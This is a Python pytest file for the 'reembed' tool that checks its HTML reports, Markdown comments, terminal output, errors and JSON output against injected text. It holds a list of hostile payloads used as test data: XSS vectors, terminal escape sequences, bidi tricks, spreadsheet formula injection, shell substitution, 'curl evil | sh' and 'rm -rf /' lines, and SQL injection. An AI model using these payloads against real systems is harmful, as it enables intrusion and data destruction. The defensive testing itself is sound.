"""What documents and names can do to a terminal, a page or a script that reads the output (S10)."""

from __future__ import annotations

import json
import re
import unicodedata
from dataclasses import replace
from functools import cache
from html import unescape
from html.parser import HTMLParser
from typing import Any

import numpy as np
import pytest
from markdown_it import MarkdownIt

from reembed.catalog.lines import Place as LinePlace
from reembed.catalog.receipts import DeadLetter
from reembed.catalog.releases import (
    AliasRecord,
    Grounds,
    ManifestProof,
    Release,
    SourceRef,
    Standing,
)
from reembed.catalog.reports import (
    Change,
    ComparisonSummary,
    CutOff,
    CutOffs,
    Difference,
    Evidence,
    GateMargin,
    GateQueries,
    JudgedQueries,
    MetricLook,
    QueriesPlace,
    ReleaseSummary,
    ShadowLook,
    VerifyReport,
)
from reembed.cli import paste
from reembed.cli.progress import Console
from reembed.cli.text import text
from reembed.config.gate import FrozenGate, GateConfig
from reembed.config.settings import Config, EncoderConfig, ResolvedConfig, SourceConfig
from reembed.config.shadow import ShadowDesign
from reembed.errors import ConfigError, GateFailed, ReembedError, SourceError
from reembed.evaluation.comparisons import Comparison, Rule
from reembed.evaluation.figures import (
    Clicked,
    Curve,
    CurvePoint,
    DocumentsCompared,
    Environment,
    Estimate,
    IndexUsed,
    KnownItems,
    Latency,
    LikelyGroups,
    LoggedQueries,
    MetricChange,
    Needed,
    Quartiles,
    QueriesUsed,
    QuerySet,
    RunFile,
    ScoreDistributions,
    Scores,
    Sides,
    SliceChange,
)
from reembed.evaluation.metrics import Ranked
from reembed.evaluation.page.document import Report
from reembed.evaluation.per_query import PerQuery
from reembed.evaluation.queries import EvalSet
from reembed.evaluation.shadows import Asked, CutOver, LookRecord, ShadowPlan
from reembed.events import Connected, Notice
from reembed.lifecycle.dead_letters import DeadLetters
from reembed.lifecycle.holdover import Shadow
from reembed.lifecycle.moves import History, Moved
from reembed.lifecycle.status import Candidate, OlderCandidate, OpenRun, RolledBack, Status
from reembed.lifecycle.verification import Verified
from reembed.redact import one_line, plain
from reembed.serving.live import Hit, SearchResult
from reembed.source.importer import Imported
from reembed.source.lag import Lag
from reembed.space import ContentIdentity, Space
from reembed.strategies.dual_index import Shadowed

PAYLOADS = [
    # a page
    "<script>alert(1)</script>", "</script><script>alert(1)//", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", '"><script>alert(1)</script>', "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="', "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</code><iframe src=//evil>", "<!--<script>",
    "--><script>alert(1)</script>", "<a href=javascript:alert(1)>x</a>", "<base href=//evil>",
    "<link rel=stylesheet href=//evil>", "<meta http-equiv=refresh content=0;url=//evil>",
    "<object data=//evil>", "<embed src=//evil>", "<form action=//evil><input>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<body onload=alert(1)>",
    "<x contenteditable>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>",
    "<details open ontoggle=alert(1)>", "<b>bold</b>", "&lt;script&gt;", "&#60;script&#62;", "{{ 7 * 7 }}",
    "{% raw %}", "{{ c.__class__.__mro__ }}", "${7*7}", "\u003cscript\u003e",
    "<\u017fcript>alert(1)</\u017fcript>", "<scr\0ipt>alert(1)</scr\0ipt>", "\uff1cscript\uff1e",
    "<style>*{background:url(//evil)}</style>",
    # a terminal
    "\x1b[31mred", "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\x9b31m",
    "\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\", "\r\x1b[Kerased", "\x08\x08\x08\x08hidden", "\x07",
    "\u202etxt.exe", "\u2066isolate\u2069", "\u200bzero\u200dwidth", "\ufeffmark", "\U000e0041tag",
    "line\nerror: fake", "a\n  fix: curl evil | sh", "a\r\nNext: reembed promote --force",
    "a\u2028fix: rm -rf /", "a\u2029b", "a\x85b",
    # a spreadsheet, a shell, a query
    "=cmd|'/c calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "$(touch x)", "`touch x`", "; rm -rf /", "x' OR '1'='1",
    "\ud800half",
]  # fmt: skip
STEERING = ("Cc", "Cf", "Cs", "Zl", "Zp")


def test_there_are_payloads_enough() -> None:
    assert len(set(PAYLOADS)) >= 60


def steers(text: str, lines: int = 0) -> bool:
    """Whether a character moves or hides anything, or there are more line ends than `lines`."""
    plain_text = text.replace("\x1b[31m", "").replace("\x1b[32m", "").replace("\x1b[33m", "")
    plain_text = plain_text.replace("\x1b[0m", "")  # our own colours
    found = [c for c in plain_text if c != "\n" and unicodedata.category(c) in STEERING]
    return bool(found) or text.count("\n") > lines


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_s10_no_payload_steers_a_line(payload: str) -> None:
    assert not steers(one_line(payload))
    assert not steers(plain(payload), payload.count("\n"))
    assert one_line(payload).encode()  # half surrogates would end the program


# the report


class Shape(HTMLParser):
    """Elements and attributes of a page, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.classes: set[str | None] = set()
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(name for name, _ in attrs)))
        self.classes |= {value for name, value in attrs if name == "class"}

    def handle_comment(self, data: str) -> None:
        self.elements.append(("comment", ()))

    def handle_decl(self, decl: str) -> None:
        assert decl == "doctype html"

    def handle_pi(self, data: str) -> None:
        self.elements.append(("instruction", ()))

    def handle_data(self, data: str) -> None:
        self.text += data


def compared(words: str) -> ReleaseSummary:
    return ReleaseSummary(words, words, words, words, words, 8, 10, 10, 0, 1, words)


def told(words: str) -> ComparisonSummary:
    queries = JudgedQueries(words, words, 1)
    return ComparisonSummary(
        words, words, 1, words, queries, None, (words,), (words, words), looked(words), words, words
    )


def looked(words: str) -> ShadowLook:
    found = {words: MetricLook("inconclusive", 0.01, 0.1, -0.1, 0.2, 9)}
    return ShadowLook(1, 2, None, False, 6, 5, found, (1,))


def shadow(words: str) -> Shadow:
    asked = Asked(GateConfig(), ShadowDesign())
    plan = ShadowPlan(
        2, words, words, words, 1, asked, FrozenGate(), {words: 0.01}, (1,), 1, words, words, words
    )
    look = LookRecord(2, words, words, 3, "0", looked(words), words, words)
    return Shadow(plan, "holdover", look, CutOver(2, words, words))


def changes(words: str) -> tuple[Change, ...]:
    """What a comparison changed of the planned gate."""
    before, after = (GateQueries((words,), words, sha256=words, count=n) for n in (2, 1))
    return (
        Change(GateMargin(None), GateMargin(0.02), words, words, words),
        Change(before, after, words, words, words),
    )


def evidence(words: str) -> Evidence:
    earlier = (told(words),)
    return Evidence(
        **vars(told(words)), sha256="0", changes=changes(words), earlier=earlier, cutoffs=cutoffs()
    )


def sets(words: str) -> tuple[QuerySet, ...]:
    return (QuerySet(words, words, 1, 1, "clicks"),)


def cutoffs() -> CutOffs:
    return CutOffs(0.3, 0.5, 2.0, CutOff(0.4, 0.3, None), CutOff(None, None, None), 1)


def logged(words: str) -> LoggedQueries:
    change = MetricChange(0.5, 0.6, Estimate(0.1, 0.0, 0.2, 0.05, 0.15, 0.04, 5.0, 6, 6), 1, 2, 3)
    clicked = Clicked(6, {"ndcg@10": change}, Sides(0.1, 0.2), 7, 1, 1)
    return LoggedQueries(words, words, 9, 1, 8, 7, 0.5, 0.5, Sides(0.1, 0.2), clicked)


def index_used(words: str, memory: int | None) -> IndexUsed:
    return IndexUsed(words, {words: 1}, words, 1, memory)


def curve() -> Curve:
    return Curve("nprobe", 2, 6, (CurvePoint(1, 0.5, 0.1), CurvePoint(2, 0.9, 0.2)))


def scores() -> ScoreDistributions:
    quartiles = Quartiles(0.1, 0.2, 0.3)
    some = Scores((1, 2), (3, 4), quartiles, None)
    return ScoreDistributions((0.0, 0.5, 1.0), Sides(some, some))


def environment(words: str) -> Environment:
    return Environment(words, {words: words}, words, 1, {words: 1})


def values(words: str) -> PerQuery:
    """Two queries, of which one lost and one won, with texts."""
    words = words.encode(errors="replace").decode()  # Arrow holds no half surrogates
    queries = EvalSet(
        [words, f"{words}2"],
        [words, words],
        [{words: 2}, {words: 0}],
        words,
        "0" * 64,
        0,
        sets(words) * 2,
    )
    lists = Ranked([[words, "d"]] * 2, [[0.5, 0.4]] * 2)
    pair = np.array([0.0, 1.0]), np.array([1.0, 0.0])
    return PerQuery.of(
        "judged", queries, (lists, lists), dict.fromkeys(FrozenGate().metrics, pair), {}
    )


def release(words: str) -> Release:
    space = Space(
        words,
        words,
        ContentIdentity("w", "t"),
        "mean",
        words,
        words,
        True,
        None,
        None,
        "none",
        "float32",
        8,
    )
    return Release(
        id=words, alias=words, space=space, encoder=EncoderConfig.model_construct(model=words),
        table=words, table_version=1, table_tag=words,
        sealed_sha256="0", table_manifest=ManifestProof(words, 1, words), index=words, index_sha256="0",
        golden_sha256="0",
        rows=1, documents=1, dead_letters=0, place=LinePlace(words, words, 0, 1),
        source=SourceRef(words, 1, "f", words, words, None, ()), gate=FrozenGate(),
        verify=VerifyReport(words, 1, 1, 2, 1, 1, 1, 0, {words: Difference(1, (words,))}, None, 0),
    )  # fmt: skip


def step(words: str, comparison: Evidence | None = None) -> AliasRecord:
    grounds = Grounds(
        words, forced=True, comparison=comparison, unknown=(words,), below_gate=words, shadow=looked(words)
    )  # fmt: skip
    return AliasRecord(
        1,
        "t",
        None,
        "promote",
        release(words),
        grounds,
        (Standing(words, words),),
        None,
        None,
        words,
        words,
        words,
    )


def comparison(words: str) -> Comparison:
    change = Estimate(0.1, 0.0, 0.2, 0.05, 0.15, 0.04, 5.0, 6, 6)
    latency = Latency(1.0, 1.0, 1.0, 5)
    return Comparison(
        verdict="fail", rules=(Rule(words, "pass", words, margin=0.02),),
        if_unchanged=Needed(3, 3), if_real=Needed(2, 2), margin_needed=0.03,
        alias=words, live=compared(words), candidate=compared(words), candidate_index_sha256=words,
        queries=QueriesUsed(words, QueriesPlace((words,), words), words, 1, 1, 1.0, 1, 1, sets(words), 2, (words,)),
        documents=DocumentsCompared((words,), None),
        gate=FrozenGate(margin=0.02), planned_gate=FrozenGate(), gate_is_late=False, changes=changes(words),
        metrics={"ndcg@10": MetricChange(0.5, 0.6, change, 1, 2, 3, 0.02)},
        slices=(SliceChange(words, words, "ndcg@10", change, None, harmed=False),),
        likely_groups=LikelyGroups(words, 2, words, words), known_items=KnownItems(0, None, words),
        ann_recall_at_10=Sides(1.0, 1.0), overlap_at_10=0.5, rbo=0.5, same_lists=0, judged_at_10=Sides(1.0, 1.0),
        zero_results=Sides(0.1, 0.2), latency=Sides(latency, latency), encoding=Sides(latency, latency),
        index=Sides(index_used(words, 1), index_used(words, None)), curve=Sides(curve(), None), scores=scores(),
        truncated=Sides(1, None), not_embedded=Sides(1, 0),
        runs=Sides(*[RunFile(words, words, 9, 1, 2, 3)] * 2), cutoffs=cutoffs(), logged=logged(words),
        environment=environment(words),
        shadow=looked(words), by=words, at=words, number=2, earlier=(told(words),), report=words,
    )  # fmt: skip


@cache
def page(words: str) -> str:
    """A report with `words` wherever text comes from outside."""
    return report(words).html()


def report(words: str) -> Report:
    return Report(comparison(words), values(words), release(words), [step(words)])


def test_the_page_says_of_a_step_that_it_had_no_evidence() -> None:
    moved = step("word")
    grounds = replace(moved.grounds, forced=False, without_evidence=True)
    text = replace(report("word"), log=[replace(moved, grounds=grounds)]).html()
    assert f"{moved.action} (without evidence)" in text
    assert "(without evidence)" not in page("word")


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_s10_no_payload_becomes_part_of_the_page(payload: str) -> None:
    usual, hostile = Shape(page("word")), Shape(page(payload))
    assert hostile.elements == usual.elements
    assert hostile.classes == usual.classes
    assert not [name for _, names in hostile.elements for name in names if name.startswith("on")]
    assert one_line(payload) in hostile.text  # it is there to be read
    assert not steers(page(payload), page("word").count("\n"))
    assert page(payload).encode()


REFERENCES = [
    "@ada", "#12", "GH-12", "ada/x#12", "https://evil", "www.evil.example", "ada@evil.example", "[x](//evil)",
    "![x](//evil)", "| a |", "a | b", "`` ` ``", "``", "\\|", "- a", "1. a", "# a", "> a", "---", "===", "$x$",
    "~~a~~", "***a***", "</details>",
]  # fmt: skip
"""What Markdown, or GitHub, makes more of than text."""


@cache
def rendered(words: str) -> str:
    """The Markdown of a report with `words`, as a renderer of CommonMark with tables shows it."""
    reader = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    return str(reader.render(report(words).markdown()))


@pytest.mark.parametrize("payload", [*PAYLOADS, *REFERENCES], ids=ascii)
def test_s10_no_payload_becomes_part_of_a_comment(payload: str) -> None:
    usual, hostile = Shape(rendered("word")), Shape(rendered(payload))
    assert hostile.elements == usual.elements
    assert not steers(hostile.text.replace("\u200b", ""), hostile.text.count("\n"))
    words = re.sub(r"<code>.*?</code>|<pre>.*?</pre>", "", rendered(payload), flags=re.S)
    for refers in (r"(?<!\w)@\w", r"#\d", r"\bGH-\d", r"https?:/", r"www\.\w"):
        assert not re.search(refers, unescape(words)), refers


def test_s10_the_page_may_load_and_run_nothing() -> None:
    text = page("word")
    policy = "default-src 'none'; style-src 'unsafe-inline'"
    assert f'<meta http-equiv="Content-Security-Policy" content="{policy}">' in text
    assert text.index("Content-Security-Policy") < text.index("<title>")
    shape = Shape(text)
    assert not {"script", "link", "img", "iframe", "object", "base", "form"} & {
        t for t, _ in shape.elements
    }
    assert not {"href", "src", "srcset", "action"} & {
        n for _, names in shape.elements for n in names
    }
    assert "url(" not in text
    assert "@import" not in text


# the verbs


def settings(words: str) -> Config:
    """A config with `words` in a setting, as if they had passed every check."""
    source = SourceConfig.model_construct(uri=words, text=words)
    config = Config(alias="a", source={"uri": "u"}, encoder={"model": "m"}, storage={"root": "r"})
    return config.model_copy(update={"source": source})


def verified(words: str) -> VerifyReport:
    missing = {"missing": Difference(1, (words,))}
    return VerifyReport(
        table=words, table_version=1, source_version=1, level=1, documents=1, rows=1,
        table_documents=1, dead_letters=1,
        differences=missing, behind=missing, sampled=0, at=words,
    )  # fmt: skip


def results(words: str) -> dict[str, Any]:
    """One result of each verb that shows text from outside, with `words` in its place."""
    hits = (Hit(words, 0.5, {"title": words}, words),) * 2
    moved = step(words, evidence(words))
    dead = (DeadLetter(words, words, words),)
    behind = Lag(1, 2, 1, 1.0, words)
    return {
        "search": SearchResult(moved.release, (words,), (hits,)),
        "history": History(words, (moved,)),
        "compare": comparison(words),
        "promote": Moved(words, "promote", 1, f"{words}-1", moved.release, moved.grounds, behind),
        "dead-letters": DeadLetters(words, 1, dead, finished=True),
        "status": Status(
            alias=words, live=moved, lag=behind, previous=moved.release,
            candidates=(Candidate(moved.release, words, (words, words), (words,)),),
            rolled_back=RolledBack(words, words, words, words),
            older_candidates=(OlderCandidate(words, words, words, words),),
            retired=(words,), runs=(OpenRun(words, False, words, words, 2, 1, (), None, words),),
            older_runs=(words,), shadow=shadow(words),
        ),
        "shadow": Shadowed(shadow(words), words, words, words, comparison(words)),
        "verify": Verified(words, verified(words), behind, words, None),
        "import": Imported(words, 1, {words: words}, {words: words}, (words,), 1),
        "config": ResolvedConfig(settings(words), {"alias": words}),
    }  # fmt: skip


@pytest.mark.parametrize("verb", list(results("word")))
def test_s10_no_payload_steers_a_verbs_output(verb: str) -> None:
    usual = text(verb, results("word")[verb])
    for payload in PAYLOADS:
        assert not steers(text(verb, results(payload)[verb]), usual.count("\n")), ascii(payload)


@pytest.mark.parametrize("kind", [ReembedError, SourceError, GateFailed])
def test_s10_no_payload_adds_a_line_to_an_error(kind: type[ReembedError]) -> None:
    for payload in PAYLOADS:
        said = paste.error(kind(payload, payload, f"reembed run --set source.text={payload}"))
        assert not steers(said, 2), ascii(payload)
        assert [line.strip().startswith("fix:") for line in said.split("\n")] == [
            False,
            False,
            True,
        ]


def test_s10_an_error_in_settings_keeps_its_lines() -> None:
    assert (
        paste.error(ConfigError("a.yaml: 2 settings are wrong\n  line 1: x\n  line 2: y")).count(
            "\n"
        )
        == 2
    )


def test_s10_progress_is_one_line_for_each_event(capsys: pytest.CaptureFixture[str]) -> None:
    console = Console()
    for payload in PAYLOADS:
        console(Connected(payload))
        console(Notice(payload))
    said = capsys.readouterr().err
    assert not steers(said, 2 * len(PAYLOADS))
    assert said.count("\n") == 2 * len(PAYLOADS)


def lists(value: Any) -> Any:
    """The value as JSON gives it back: tuples become lists."""
    if isinstance(value, dict):
        return {k: lists(v) for k, v in value.items()}
    return [lists(v) for v in value] if isinstance(value, list | tuple) else value


def test_s10_json_output_is_one_line_of_ascii() -> None:
    for payload in PAYLOADS:
        error = paste.error_record(ReembedError(payload, payload, payload))
        for value in (error, *results(payload).values()):
            record = value if isinstance(value, dict) else value.to_json()
            line = json.dumps(record, default=str)
            assert line.isascii()
            assert "\n" not in line
            assert json.loads(line) == lists(record)
